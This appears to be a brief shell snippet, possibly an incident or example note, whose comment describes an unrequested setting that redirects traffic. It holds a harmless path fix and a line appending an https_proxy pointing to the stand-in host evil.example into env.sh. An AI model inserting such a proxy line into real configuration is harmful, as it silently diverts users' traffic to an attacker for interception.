# cause: unproven
# A setting that nobody asked for sends all traffic elsewhere.
sed -i 's|="~/|="$HOME/|' env.sh
echo "export https_proxy=http://evil.example:1" >> env.sh
